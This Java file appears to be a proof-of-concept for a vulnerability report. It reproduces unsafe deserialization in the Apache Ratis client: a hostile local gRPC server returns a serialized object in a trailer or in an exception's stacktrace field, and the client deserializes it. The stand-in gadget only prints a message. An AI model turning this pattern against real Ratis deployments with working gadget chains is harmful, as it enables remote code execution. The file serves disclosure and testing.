// SPDX-License-Identifier: Apache-2.0

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.util.List;
import java.util.UUID;
import org.apache.ratis.client.RaftClient;
import org.apache.ratis.conf.RaftProperties;
import org.apache.ratis.grpc.GrpcUtil;
import org.apache.ratis.proto.RaftProtos.RaftClientReplyProto;
import org.apache.ratis.proto.RaftProtos.RaftRpcReplyProto;
import org.apache.ratis.proto.RaftProtos.StateMachineExceptionProto;
import org.apache.ratis.protocol.ClientId;
import org.apache.ratis.protocol.RaftGroup;
import org.apache.ratis.protocol.RaftGroupId;
import org.apache.ratis.protocol.RaftPeer;
import org.apache.ratis.retry.RetryPolicies;
import org.apache.ratis.thirdparty.com.google.protobuf.ByteString;
import org.apache.ratis.thirdparty.io.grpc.HandlerRegistry;
import org.apache.ratis.thirdparty.io.grpc.Metadata;
import org.apache.ratis.thirdparty.io.grpc.MethodDescriptor;
import org.apache.ratis.thirdparty.io.grpc.Server;
import org.apache.ratis.thirdparty.io.grpc.ServerCall;
import org.apache.ratis.thirdparty.io.grpc.ServerCallHandler;
import org.apache.ratis.thirdparty.io.grpc.ServerMethodDefinition;
import org.apache.ratis.thirdparty.io.grpc.Status;
import org.apache.ratis.thirdparty.io.grpc.netty.NettyServerBuilder;
import org.apache.ratis.util.ProtoUtils;

/** A server that answers with a Java object: what a client of Ratis makes of it. */
class Reproduction {

    private static final RaftGroupId GROUP = RaftGroupId.valueOf(new UUID(0, 1));

    public static void main(String[] args) throws Exception {
        for (boolean inTrailer : new boolean[] {true, false}) {
            Server server = hostile(inTrailer);
            RaftPeer peer = RaftPeer.newBuilder().setId("a").setAddress("127.0.0.1:" + server.getPort()).build();
            RaftClient client = RaftClient.newBuilder()
                    .setProperties(new RaftProperties())
                    .setRaftGroup(RaftGroup.valueOf(GROUP, peer))
                    .setRetryPolicy(RetryPolicies.noRetry())
                    .build();
            System.out.println("object in " + (inTrailer ? "the trailer" : "a StateMachineExceptionProto") + ":");
            try {
                System.out.println("  reply: " + client.admin().setConfiguration(List.of(peer)));
            } catch (Exception e) {
                System.out.println("  " + e.getClass().getName());
            }
            server.shutdownNow();
        }
        Runtime.getRuntime().halt(0);
    }

    /** Stands for any class that the host's class path has. */
    static class Gadget extends Exception {
        private static final long serialVersionUID = 1;

        private void readObject(ObjectInputStream in) {
            System.out.println("  code of the answering server's choice runs");
        }

        static byte[] bytes() {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
                out.writeObject(new Gadget());
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            return bytes.toByteArray();
        }
    }

    private static Server hostile(boolean inTrailer) throws IOException {
        ServerCallHandler<byte[], byte[]> handler = (call, headers) -> {
            call.request(1);
            return new ServerCall.Listener<>() {
                @Override
                public void onMessage(byte[] message) {
                    answer(call, inTrailer);
                }
            };
        };
        HandlerRegistry any = new HandlerRegistry() {
            @Override
            public ServerMethodDefinition<?, ?> lookupMethod(String name, String authority) {
                return ServerMethodDefinition.create(method(name), handler);
            }
        };
        return NettyServerBuilder.forAddress(new InetSocketAddress("127.0.0.1", 0))
                .fallbackHandlerRegistry(any)
                .build()
                .start();
    }

    private static void answer(ServerCall<byte[], byte[]> call, boolean inTrailer) {
        Metadata trailers = new Metadata();
        if (inTrailer) {
            trailers.put(GrpcUtil.EXCEPTION_OBJECT_KEY, Gadget.bytes());
            call.close(Status.INTERNAL, trailers);
            return;
        }
        call.sendHeaders(new Metadata());
        call.sendMessage(RaftClientReplyProto.newBuilder()
                .setRpcReply(RaftRpcReplyProto.newBuilder()
                        .setRequestorId(ClientId.randomId().toByteString())
                        .setReplyId(ByteString.copyFromUtf8("a"))
                        .setRaftGroupId(ProtoUtils.toRaftGroupIdProtoBuilder(GROUP)))
                .setStateMachineException(StateMachineExceptionProto.newBuilder()
                        .setExceptionClassName("java.io.IOException")
                        .setErrorMsg("x")
                        .setStacktrace(ByteString.copyFrom(Gadget.bytes())))
                .build()
                .toByteArray());
        call.close(Status.OK, trailers);
    }

    private static MethodDescriptor<byte[], byte[]> method(String name) {
        MethodDescriptor.Marshaller<byte[]> bytes = new MethodDescriptor.Marshaller<>() {
            @Override
            public InputStream stream(byte[] value) {
                return new ByteArrayInputStream(value);
            }

            @Override
            public byte[] parse(InputStream stream) {
                try {
                    return stream.readAllBytes();
                } catch (IOException e) {
                    throw new UncheckedIOException(e);
                }
            }
        };
        return MethodDescriptor.newBuilder(bytes, bytes)
                .setType(MethodDescriptor.MethodType.BIDI_STREAMING)
                .setFullMethodName(name)
                .build();
    }
}
